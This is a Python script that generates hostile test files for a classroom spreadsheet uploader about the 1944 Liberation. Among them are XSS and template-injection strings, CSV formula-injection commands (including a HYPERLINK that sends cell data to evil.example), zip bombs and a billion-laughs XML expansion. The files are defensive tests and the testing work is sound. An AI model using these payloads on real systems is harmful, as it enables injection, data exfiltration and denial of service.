"""Write the hostile corpus: files a class's upload must survive, and what each must give.

Run from the repository root: `.venv/bin/python tests/data/hostile/make_hostile.py`. It
rewrites `tests/data/hostile/files/` and `expected.csv` (file, rows, problem, payload):
`rows` valid rows must load; `problem`, when given, is a fragment of the English text of
one of the problems or notices; `payload`, when given, must come back unchanged as the first
row of the file (its first line) in `column` (text shown as text). Each expectation follows from how the file is
built here, never from running the loader. Randomness is seeded; the bombs stay small on disk.
"""

from __future__ import annotations

import codecs
import csv
import io
import random
import shutil
import sys
import zipfile
from dataclasses import dataclass
from pathlib import Path

ROOT = Path(__file__).resolve().parents[3]
sys.path.insert(0, str(ROOT / "tests"))

from helpers.spreadsheets import ODS_MIMETYPE, _CONTENT_END, _CONTENT_START, _MANIFEST, ods_bytes, xlsx_bytes  # noqa: E402

HERE = Path(__file__).resolve().parent
FILES = HERE / "files"
MANIFEST = HERE / "expected.csv"
FIXED_TIME = (1980, 1, 1, 0, 0, 0)

HEADER = ["date", "lieu", "département", "type", "titre", "description", "acteurs", "source", "lien", "lat", "lon"]
GOOD_ROWS = [
    ["25/08/1944", "Paris", "75", "libération", "Libération de Paris", "La 2e DB entre dans Paris.", "2e DB;FFI",
     "Musée de la Résistance en ligne", "https://example.org/paris", "", ""],
    ["1944-07-19", "Caen", "14", "libération", "Libération de Caen", "Fin de la bataille de Caen.", "Canadian Army",
     "Archives du Calvados", "", "", ""],
    ["22/08/1944", "Grenoble", "38", "libération", "Libération de Grenoble", "Les FFI entrent à Grenoble.", "FFI",
     "Musée de la Résistance de l'Isère", "", "", ""],
]
# Payloads a page or a spreadsheet might run: each must stay text.
MARKUP = [
    "<script>alert('x')</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "\"><b onmouseover=alert(1)>x</b>",
    "[cliquez ici](javascript:alert(1))",
    "![image](http://evil.example/pixel.png)",
    "<a href=\"javascript:alert(1)\">lien</a>",
    "</div><style>body{display:none}</style>",
    "{{7*7}} ${7*7} <%= 7*7 %>",
    "**gras** _italique_ # titre",
    "<details open ontoggle=alert(1)>",
]
FORMULAS = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Cliquez\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
]
TEXT_COLUMNS = {"titre": "title_fr", "description": "description_fr", "acteurs": "actors", "source": "source"}


@dataclass
class Case:
    name: str
    data: bytes
    rows: int
    problem: str = ""
    column: str = ""
    payload: str = ""


def csv_bytes(rows: list[list[str]], delimiter: str = ";", encoding: str = "utf-8", newline: str = "\r\n") -> bytes:
    output = io.StringIO()
    csv.writer(output, delimiter=delimiter, lineterminator=newline).writerows(rows)
    return output.getvalue().encode(encoding)


def table(*rows: list[str], header: list[str] = HEADER) -> list[list[str]]:
    return [header, *rows]


def with_cell(row: list[str], column: str, value: str) -> list[str]:
    changed = list(row)
    changed[HEADER.index(column)] = value
    return changed


def zip_bytes(members: dict[str, bytes], stored_first: str | None = None) -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as archive:
        for name, data in members.items():
            info = zipfile.ZipInfo(name, FIXED_TIME)
            info.compress_type = zipfile.ZIP_STORED if name == stored_first else zipfile.ZIP_DEFLATED
            archive.writestr(info, data)
    return output.getvalue()


def zip_bomb(name_inside: str, unpacked_megabytes: int) -> bytes:
    """A spreadsheet-looking zip whose sheet unpacks to `unpacked_megabytes` of zeros."""
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr(zipfile.ZipInfo("xl/workbook.xml", FIXED_TIME), b"<workbook/>")
        info = zipfile.ZipInfo(name_inside, FIXED_TIME)
        info.compress_type = zipfile.ZIP_DEFLATED
        with archive.open(info, "w", force_zip64=True) as member:
            block = b"0" * (1024 * 1024)
            for _ in range(unpacked_megabytes):
                member.write(block)
    return output.getvalue()


def ods_raw(body: str) -> bytes:
    return zip_bytes({"mimetype": ODS_MIMETYPE.encode(), "META-INF/manifest.xml": _MANIFEST.encode(),
                      "content.xml": (_CONTENT_START + body + _CONTENT_END).encode()}, stored_first="mimetype")


def markup_and_formula_cases() -> list[Case]:
    cases = []
    for number, payload in enumerate(MARKUP + FORMULAS):
        for column, field in TEXT_COLUMNS.items():
            row = with_cell(GOOD_ROWS[0], column, payload)
            # An actor cell is split on ';' and becomes the class's own actor: check the title then.
            check = "" if column == "acteurs" else payload
            cases.append(Case(f"payload-{number:02d}-{column}.csv", csv_bytes(table(row)), 1, "",
                              field if check else "", check))
        # The place: not a commune, so it is reported with a message, and the row is left out...
        cases.append(Case(f"payload-{number:02d}-lieu.csv", csv_bytes(table(with_cell(GOOD_ROWS[0], "lieu", payload))),
                          0, "no commune"))
        # ...unless coordinates are given: then it is kept, as text.
        placed = with_cell(with_cell(with_cell(GOOD_ROWS[0], "lieu", payload), "lat", "48.85"), "lon", "2.35")
        cases.append(Case(f"payload-{number:02d}-lieu-with-coordinates.csv", csv_bytes(table(placed)), 1, "", "place", payload))
        cases.append(Case(f"payload-{number:02d}-lien.csv", csv_bytes(table(with_cell(GOOD_ROWS[0], "lien", payload))),
                          0, "must start with http"))
    for number, payload in enumerate(MARKUP):
        sheet = table(with_cell(GOOD_ROWS[0], "titre", payload))
        cases.append(Case(f"payload-{number:02d}-titre.xlsx", xlsx_bytes({"Feuille1": sheet}), 1, "", "title_fr", payload))
        cases.append(Case(f"payload-{number:02d}-titre.ods", ods_bytes({"Feuille1": sheet}), 1, "", "title_fr", payload))
    for number, payload in enumerate(FORMULAS[:5]):
        # openpyxl writes '=...' as a formula with no stored value: the reader never computes it,
        # so the title is empty. The other payloads are plain text cells.
        is_formula = payload.startswith("=")
        sheet = table(with_cell(GOOD_ROWS[0], "titre", payload))
        cases.append(Case(f"formula-{number:02d}-titre.xlsx", xlsx_bytes({"Feuille1": sheet}),
                          0 if is_formula else 1, "empty title" if is_formula else "",
                          "" if is_formula else "title_fr", "" if is_formula else payload))
        cases.append(Case(f"formula-{number:02d}-titre.ods", ods_bytes({"Feuille1": sheet}), 1, "", "title_fr", payload))
    return cases


def encoding_cases() -> list[Case]:
    accented = table(*GOOD_ROWS)
    cases = []
    for delimiter, label in ((";", "semicolon"), (",", "comma"), ("\t", "tab")):
        for encoding in ("utf-8", "utf-8-sig", "cp1252", "latin-1", "utf-16"):
            cases.append(Case(f"encoding-{encoding}-{label}.csv", csv_bytes(accented, delimiter, encoding), 3, "", "title_fr",
                              GOOD_ROWS[0][4]))
        # Mislabelled: a UTF-8 BOM in front of Windows-1252 text; Windows-1252 saved as ".txt".
        cases.append(Case(f"encoding-bom-then-cp1252-{label}.csv",
                          codecs.BOM_UTF8 + csv_bytes(accented, delimiter, "cp1252"), 3, "", "title_fr", GOOD_ROWS[0][4]))
        cases.append(Case(f"encoding-cp1252-named-txt-{label}.txt", csv_bytes(accented, delimiter, "cp1252"), 3))
        # UTF-8 decoded as Windows-1252 and saved again: loads, with a warning about the accents.
        mojibake = csv_bytes(accented, delimiter, "utf-8").decode("cp1252").encode("utf-8")
        # Its "libÃ©ration" is no event type any more: no row loads, and the notice says why.
        cases.append(Case(f"encoding-double-utf8-{label}.csv", mojibake, 0, "converted wrongly"))
        # UTF-16 without its BOM: NUL bytes everywhere.
        cases.append(Case(f"encoding-utf16-no-bom-{label}.csv", csv_bytes(accented, delimiter, "utf-16-le"), 0, "NUL character"))
    # A Latin-1 byte Windows-1252 leaves undefined (0x81): read as Latin-1.
    latin = csv_bytes(table(with_cell(GOOD_ROWS[0], "description", "contr\x81le")), ";", "latin-1")
    cases.append(Case("encoding-latin1-only-byte.csv", latin, 1))
    # A CSV named .xlsx, and a workbook named .csv: the content decides.
    cases.append(Case("csv-named.xlsx", csv_bytes(accented), 3))
    cases.append(Case("workbook-named.csv", xlsx_bytes({"Feuille1": accented}), 3))
    return cases


def structure_cases() -> list[Case]:
    rng = random.Random(1944)
    good = table(*GOOD_ROWS)
    cases = [
        Case("empty.csv", b"", 0, "the file is empty"),
        Case("whitespace-only.csv", b"  \r\n\r\n \t \n", 0, "the file is empty"),
        Case("header-only.csv", csv_bytes([HEADER]), 0, "header only"),
        Case("header-only.xlsx", xlsx_bytes({"Feuille1": [HEADER]}), 0, "header only"),
        Case("empty-sheet.xlsx", xlsx_bytes({"Feuille1": []}), 0, "is empty"),
        Case("empty-sheet.ods", ods_bytes({"Feuille1": []}), 0, "is empty"),
        Case("cr-only-line-ends.csv", csv_bytes(good, newline="\r"), 3),
        Case("lf-line-ends.csv", csv_bytes(good, newline="\n"), 3),
        Case("blank-lines-between.csv", csv_bytes(good).replace(b"\r\n", b"\r\n\r\n;;;\r\n"), 3),
        Case("mixed-separators.csv", csv_bytes([HEADER]) + csv_bytes(GOOD_ROWS, ",") , 0, "cells instead of"),
        Case("mixed-separators-some-rows.csv", csv_bytes(good) + csv_bytes([GOOD_ROWS[0]], ","), 3, "cells instead of"),
        Case("unbalanced-quote-middle.csv",
             csv_bytes([HEADER, GOOD_ROWS[0]]) + b'25/08/1944;"Paris;75;liberation;T;d;FFI;s;;;\r\n' + csv_bytes(GOOD_ROWS[1:]),
             1, "reading stopped here"),
        Case("unbalanced-quote-header.csv", b'"date;lieu;type;titre\r\n1944-08-25;Paris;liberation;T\r\n', 0,
             "unreadable header"),
        # A quote inside an unquoted cell is kept as a character (as spreadsheets read it).
        Case("stray-quote-inside-cell.csv", csv_bytes([HEADER]) + b'25/08/1944;Pa"ris;75;liberation;T;d;FFI;s;;48.8;2.3\r\n', 1,
             "", "place", 'Pa"ris'),
        Case("nul-bytes.csv", csv_bytes(good).replace(b"Caen", b"Ca\x00en"), 0, "NUL character"),
        Case("binary-junk.csv", bytes(rng.getrandbits(8) for _ in range(4096)), 0, ""),
        Case("binary-junk-no-nul.csv", bytes(rng.choice([*range(1, 9), *range(14, 32), *range(128, 256)]) for _ in range(4096)),
             0, "binary data"),
        Case("png-renamed.csv", b"\x89PNG\r\n\x1a\n" + bytes(rng.getrandbits(8) for _ in range(512)), 0, ""),
        Case("pdf-renamed.csv", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n\x00\x01", 0, "NUL character"),
        Case("xls-ole-renamed.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504), 0, "old Excel format"),
        Case("zip-not-a-workbook.xlsx", zip_bytes({"readme.txt": b"hello"}), 0, "not an .xlsx or .ods"),
        Case("truncated.xlsx", xlsx_bytes({"Feuille1": good})[:1500], 0, "unreadable"),
        Case("zip-bomb.xlsx", zip_bomb("xl/worksheets/sheet1.xml", 1024), 0, "unpacks to an excessive size"),
        Case("zip-bomb-renamed.csv", zip_bomb("xl/worksheets/sheet1.xml", 400), 0, "unpacks to an excessive size"),
        Case("ods-repeated-rows-bomb.ods",
             ods_raw('<table:table table:name="S"><table:table-row table:number-rows-repeated="1048576">'
                     '<table:table-cell table:number-columns-repeated="1024" office:value-type="string"><text:p>x</text:p>'
                     "</table:table-cell></table:table-row></table:table>"), 0, "rows; the limit is"),
        Case("ods-repeated-cells-bomb.ods",
             ods_raw('<table:table table:name="S"><table:table-row table:number-rows-repeated="50000">'
                     '<table:table-cell table:number-columns-repeated="150" office:value-type="string"><text:p>x</text:p>'
                     "</table:table-cell></table:table-row></table:table>"), 0, "cells; the limit is"),
        Case("ods-empty-repeats-are-fine.ods",
             ods_raw('<table:table table:name="S">' + "".join(
                 "<table:table-row>" + "".join(f'<table:table-cell office:value-type="string"><text:p>{c}</text:p></table:table-cell>'
                                              for c in row) + '<table:table-cell table:number-columns-repeated="1000"/></table:table-row>'
                 for row in [["date", "lieu", "département", "type", "titre"], ["25/08/1944", "Paris", "75", "libération", "T"]])
                 + '<table:table-row table:number-rows-repeated="1048000"><table:table-cell table:number-columns-repeated="1024"/>'
                 "</table:table-row></table:table>"), 1),
        Case("xlsx-far-cell.xlsx", _far_cell_xlsx(), 0, "rows; the limit is"),
        Case("billion-laughs.ods", ods_raw_with_doctype(), 0, ""),
        Case("ten-thousand-columns.csv", csv_bytes([[f"colonne{i}" for i in range(10_000)], ["x"] * 10_000]), 0,
             "columns; the limit is"),
        Case("ten-thousand-columns.xlsx", xlsx_bytes({"Feuille1": [[f"c{i}" for i in range(10_000)]]}), 0,
             "columns; the limit is"),
        Case("one-megabyte-title.csv", csv_bytes(table(with_cell(GOOD_ROWS[0], "titre", "A" * 1_000_000), GOOD_ROWS[1])), 1,
             "cell too long"),
        Case("one-megabyte-ignored-column.csv",
             csv_bytes([HEADER + ["notes"], GOOD_ROWS[0] + ["B" * 1_000_000]]), 1, "left aside"),
        Case("over-the-row-limit.csv", b"date;lieu;type;titre\r\n" + b"1;2;3;4\r\n" * 200_001, 0, "the limit is 200,000 rows"),
        Case("duplicate-header.csv", csv_bytes([["date", "date", "lieu", "type", "titre"], ["1944-08-25"] * 5]), 0,
             "column appears twice"),
        Case("two-names-one-column.csv", csv_bytes([["date", "lieu", "place", "type", "titre"], ["1944-08-25", "Paris", "Paris", "x", "t"]]),
             0, "all name the same column"),
        Case("missing-required-columns.csv", csv_bytes([["date", "titre"], ["1944-08-25", "T"]]), 0, "required column missing"),
        Case("unknown-columns-only.csv", csv_bytes([["foo", "bar"], ["1", "2"]]), 0, "required column missing"),
        Case("row-with-extra-cells.csv", csv_bytes(good + [GOOD_ROWS[0] + ["en trop"]]), 3, "12 cells instead of 11"),
        Case("row-with-missing-cells.csv", csv_bytes(good + [GOOD_ROWS[0][:5]]), 3, "5 cells instead of 11"),
        Case("title-rows-above-header.xlsx", xlsx_bytes({"Feuille1": [["Ma classe"], ["Libération"], [], *good]}), 3),
        Case("second-sheet-ignored.xlsx", xlsx_bytes({"Evénements": good, "Vocabulaire": [["x"]]}), 3, "other sheets left aside"),
        Case("huge-single-line.csv", csv_bytes([HEADER]) + b"x;" * 100_000 + b"\r\n", 0, "cells instead of"),
        # Every markup payload in every text column, on one day: the browser test shows them all.
        Case("all-markup-everywhere.csv", csv_bytes(table(*[
            ["25/08/1944", payload, "75", "libération", payload, payload, payload.replace(";", ","), payload, "", "48.85", "2.35"]
            for payload in MARKUP])), len(MARKUP)),
        Case("markup-in-header.csv", csv_bytes([HEADER + ["<script>alert(1)</script>", "=HYPERLINK(\"x\")"],
                                                *[r + ["<b>x</b>", "=1+1"] for r in GOOD_ROWS]]), 3, "left aside"),
    ]
    return cases


def _far_cell_xlsx() -> bytes:
    """A workbook with a header and one cell at XFD1048576: tiny file, huge grid."""
    import openpyxl

    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["date", "lieu", "type", "titre"])
    sheet["XFD1048576"] = "x"
    output = io.BytesIO()
    workbook.save(output)
    return output.getvalue()


def ods_raw_with_doctype() -> bytes:
    """Entity expansion ('billion laughs') in content.xml: never expanded."""
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
    content = (f'<?xml version="1.0"?><!DOCTYPE office:document-content [{entities}]>'
               + _CONTENT_START.split("?>", 1)[1] + '<table:table table:name="S"><table:table-row>'
               '<table:table-cell office:value-type="string"><text:p>&lol9;</text:p></table:table-cell>'
               "</table:table-row></table:table>" + _CONTENT_END)
    return zip_bytes({"mimetype": ODS_MIMETYPE.encode(), "META-INF/manifest.xml": _MANIFEST.encode(),
                      "content.xml": content.encode()}, stored_first="mimetype")


def value_cases() -> list[Case]:
    row = GOOD_ROWS[0]
    cells = [
        ("date", "1944-02-30", "invalid date '1944-02-30'"),
        ("date", "30/02/1944", "invalid date '30/02/1944'"),
        ("date", "31/04/1944", "invalid date"),
        ("date", "1944-13-01", "invalid date"),
        ("date", "0000-00-00", "invalid date"),
        ("date", "25/08/44", "two digits"),
        ("date", "1789-07-14", "outside the period covered"),
        ("date", "2044-08-25", "outside the period covered"),
        ("date", "16309", "invalid date"),
        ("date", "", "missing date"),
        ("date", "NaN", "invalid date"),
        ("date", "août 1944", "invalid date"),
        ("lat", "NaN", "not a decimal number"),
        ("lat", "inf", "not a decimal number"),
        ("lat", "-inf", "not a decimal number"),
        ("lat", "1e308", "outside metropolitan France"),
        ("lat", "0", "outside metropolitan France"),
        ("lat", "48°51'N", "not a decimal number"),
        ("lon", "200", "outside metropolitan France"),
        ("lon", "-73.98", "outside metropolitan France"),
        ("département", "99", "unknown département code '99'"),
        ("département", "976", "unknown département code '976'"),
        ("département", "=75", "unknown département code"),
        ("type", "parade", "unknown type 'parade'"),
        ("type", "<b>libération</b>", "unknown type"),
        ("lien", "javascript:alert(1)", "must start with http"),
        ("lien", "data:text/html,<script>alert(1)</script>", "must start with http"),
        ("lien", "http://ok.example/\"onmouseover=alert(1)", "must start with http"),
        ("titre", "", "empty title"),
    ]
    cases = []
    for number, (column, value, fragment) in enumerate(cells):
        changed = with_cell(row, column, value)
        if column in ("lat", "lon"):
            changed = with_cell(with_cell(changed, "lat", "48.85") if column == "lon" else changed, "lon",
                                "2.35" if column == "lat" else value)
        cases.append(Case(f"value-{number:02d}-{column}.csv", csv_bytes(table(changed, GOOD_ROWS[1])), 1, fragment))
    lat_only = with_cell(row, "lat", "48.85")
    cases.append(Case("value-lat-without-lon.csv", csv_bytes(table(lat_only)), 0, "not a decimal number"))
    cases.append(Case("value-decimal-comma.csv", csv_bytes(table(with_cell(with_cell(row, "lat", "48,85"), "lon", "2,35"))), 1))
    cases.append(Case("value-departement-without-zero.csv",
                      csv_bytes(table(["25/08/1944", "Bourg-en-Bresse", "1", "libération", "Libération de Bourg", "", "FFI", "", "", "", ""])), 1))
    cases.append(Case("value-ambiguous-place.csv",
                      csv_bytes(table(["31/08/1944", "Valence", "", "libération", "Valence", "", "FFI", "", "", "", ""])), 0,
                      "several communes are called 'Valence'"))
    cases.append(Case("value-end-before-date.csv", csv_bytes([HEADER + ["fin"], row + ["20/08/1944"]]), 0,
                      "end date 1944-08-20 is before date 1944-08-25"))
    cases.append(Case("value-duplicate-ids.csv", csv_bytes([["id"] + HEADER, ["a"] + row, ["a"] + GOOD_ROWS[1]]), 1,
                      "already used on line 2"))
    cases.append(Case("value-bad-id.csv", csv_bytes([["id"] + HEADER, ["Hello World"] + row]), 0, "invalid id"))
    cases.append(Case("value-region-mismatch.csv", csv_bytes([HEADER + ["région"], row + ["Bretagne"]]), 0,
                      "is in région 'Île-de-France', not 'Bretagne'"))
    cases.append(Case("value-unknown-force-type.csv", csv_bytes([HEADER + ["type de force"], row + ["martiens"]]), 0,
                      "unknown force type"))
    many = [with_cell(row, "date", "1944-02-30") for _ in range(450)]
    cases.append(Case("value-450-bad-rows.csv", csv_bytes(table(*many, GOOD_ROWS[1])), 1, "invalid date"))
    return cases


def all_cases() -> list[Case]:
    return markup_and_formula_cases() + encoding_cases() + structure_cases() + value_cases()


def main() -> None:
    cases = all_cases()
    names = [case.name for case in cases]
    assert len(names) == len(set(names)), "two cases share a file name"
    shutil.rmtree(FILES, ignore_errors=True)
    FILES.mkdir(parents=True)
    for case in cases:
        (FILES / case.name).write_bytes(case.data)
    with MANIFEST.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle, lineterminator="\n")
        writer.writerow(["file", "rows", "problem", "column", "payload"])
        for case in cases:
            writer.writerow([case.name, case.rows, case.problem, case.column, case.payload])
    size = sum(len(case.data) for case in cases)
    print(f"{len(cases)} files, {size / 1024 / 1024:.1f} MB, in {FILES.relative_to(ROOT)}")


if __name__ == "__main__":
    main()
